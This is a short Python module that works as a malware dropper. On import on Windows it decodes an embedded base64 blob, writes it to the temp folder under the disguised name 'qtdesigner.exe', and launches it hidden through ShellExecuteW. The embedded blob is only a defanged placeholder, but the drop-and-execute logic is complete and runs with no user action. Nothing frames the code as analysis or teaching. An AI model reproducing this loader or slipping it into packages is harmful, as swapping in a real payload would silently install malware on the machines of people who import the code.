import base64
import ctypes
import os
import tempfile

_PAYLOAD = "TVogZGVmYW5nZWQgcGxhY2Vob2xkZXI="


def _launch():
    path = os.path.join(tempfile.gettempdir(), "qtdesigner.exe")
    with open(path, "wb") as handle:
        handle.write(base64.b64decode(_PAYLOAD))
    ctypes.windll.shell32.ShellExecuteW(None, "open", path, None, None, 0)


if os.name == "nt":
    _launch()
